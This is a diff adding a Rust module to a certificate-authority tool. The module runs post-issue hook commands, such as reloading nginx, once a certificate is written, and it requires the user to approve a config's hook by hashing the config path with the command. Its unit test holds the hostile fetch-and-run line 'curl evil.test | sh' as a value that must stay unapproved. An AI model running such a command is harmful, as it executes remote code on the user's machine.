@@ -0,0 +1,163 @@
+//! Commands run after a server certificate was written, e.g. to reload the
+//! web server using it or copy it into a container volume: `post_issue` of
+//! `[hooks]` in the config, then the one passed with `--exec`.
+//!
+//! A config can come from a project, an imported store, a backup or Vault,
+//! so its hook only runs once the user approved it with [`trust_hooks`].
+//! Approvals are kept outside every store, in the user's config dir, and
+//! name both the config and the command.
+
+use std::path::Path;
+use std::process::Command;
+use std::sync::RwLock;
+
+use openssl::sha::sha256;
+
+use crate::conf::{add_line, has_line, user_file, CertAuthConf, Conf};
+use crate::err::{Result, SimpleCAError};
+use crate::tr;
+
+static EXEC_HOOK: RwLock<Option<String>> = RwLock::new(None);
+
+const TRUSTED_HOOKS_FILE: &str = "trusted-hooks";
+
+/// Runs `command` after every server certificate written by this process, in
+/// addition to the hook of the config.
+pub fn set_exec_hook(command: &str) {
+    *EXEC_HOOK.write().unwrap() = Some(command.to_string());
+}
+
+fn shell(command: &str) -> Command {
+    if cfg!(windows) {
+        let mut shell = Command::new("cmd");
+        shell.args(["/C", command]);
+        shell
+    } else {
+        let mut shell = Command::new("sh");
+        shell.args(["-c", command]);
+        shell
+    }
+}
+
+/// The line approving `command` as the hook of the config at `config`.
+fn approval(config: &Path, command: &str) -> String {
+    let digest = sha256(format!("{}\0{}", config.display(), command).as_bytes());
+    digest.iter().map(|b| format!("{:02x}", b)).collect()
+}
+
+/// Approves the `post_issue` hook of the current config, so that it runs
+/// from now on. Returns the command, `None` when the config has none.
+pub fn trust_hooks() -> Result<Option<String>> {
+    let command = match Conf::load()?.hooks().post_issue {
+        Some(command) => command,
+        None => return Ok(None),
+    };
+    let list = user_file(TRUSTED_HOOKS_FILE).ok_or(SimpleCAError::GenericError {
+        msg: "Unable to locate the user config directory.",
+    })?;
+    add_line(&list, &approval(&Conf::path()?, &command))?;
+    Ok(Some(command))
+}
+
+/// The `post_issue` hook of the config when the user approved it.
+fn config_hook() -> Result<Option<String>> {
+    let command = match Conf::load()?.hooks().post_issue {
+        Some(command) => command,
+        None => return Ok(None),
+    };
+    let config = Conf::path()?;
+    let approved = user_file(TRUSTED_HOOKS_FILE)
+        .is_some_and(|list| has_line(&list, &approval(&config, &command)));
+    if !approved {
+        tracing::warn!(
+            "{}",
+            tr!(
+                "hook-untrusted",
+                command = command,
+                path = config.display().to_string()
+            )
+        );
+        return Ok(None);
+    }
+    Ok(Some(command))
+}
+
+/// Warns when a config just brought into the store, by an import, restore
+/// or pull, has a `post_issue` hook that was not approved yet.
+pub(crate) fn warn_unapproved_hook() {
+    let _ = config_hook();
+}
+
+/// Runs the post-issue hooks for the certificate of `domain` with its files
+/// in `SIMPLE_CA_*` variables, and `SIMPLE_CA_OUT_DIR` when it was also
+/// copied into `out_dir`. The hook of the config only runs once approved.
+/// The first failing hook is reported as an error, after the certificate
+/// was written.
+pub(crate) fn run_post_issue_hooks(domain: &str, out_dir: Option<&Path>) -> Result<()> {
+    let mut commands: Vec<String> = config_hook()?.into_iter().collect();
+    commands.extend(EXEC_HOOK.read().unwrap().clone());
+    if commands.is_empty() {
+        return Ok(());
+    }
+    let key = CertAuthConf::server_key(domain)?;
+    for command in &commands {
+        let mut hook = shell(command);
+        hook.env("SIMPLE_CA_DOMAIN", domain)
+            .env("SIMPLE_CA_CERT", CertAuthConf::server_cert(domain)?)
+            .env(
+                "SIMPLE_CA_FULLCHAIN",
+                CertAuthConf::server_fullchain(domain)?,
+            )
+            .env("SIMPLE_CA_CHAIN", CertAuthConf::server_chain(domain)?)
+            .env("SIMPLE_CA_CA_CERT", CertAuthConf::ca_cert()?);
+        // Keys held in hardware have no file.
+        if key.exists() {
+            hook.env("SIMPLE_CA_KEY", &key);
+        }
+        if let Some(out_dir) = out_dir {
+            hook.env("SIMPLE_CA_OUT_DIR", out_dir);
+        }
+        tracing::debug!("Running post-issue hook: {}", command);
+        let status = hook.status()?;
+        if !status.success() {
+            Err(SimpleCAError::HookFailed {
+                command: command.clone(),
+                status: status.to_string(),
+            })?;
+        }
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_approval() {
+        let dir = std::env::temp_dir().join(format!("simple-ca-hooks-{}", std::process::id()));
+        let list = dir.join(TRUSTED_HOOKS_FILE);
+        let config = Path::new("/home/dev/.simple_ca/config");
+        let reload = approval(config, "systemctl reload nginx");
+        assert!(!has_line(&list, &reload));
+
+        add_line(&list, &reload).unwrap();
+        add_line(&list, &reload).unwrap();
+        assert!(has_line(&list, &reload));
+        assert_eq!(std::fs::read_to_string(&list).unwrap().lines().count(), 1);
+        // The same command in another store, or another command, is not approved.
+        let other_store = approval(
+            Path::new("/src/app/.simple_ca/config"),
+            "systemctl reload nginx",
+        );
+        assert!(!has_line(&list, &other_store));
+        assert!(!has_line(&list, &approval(config, "curl evil.test | sh")));
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_shell() {
+        assert!(shell("exit 0").status().unwrap().success());
+        assert_eq!(shell("exit 3").status().unwrap().code(), Some(3));
+    }
+}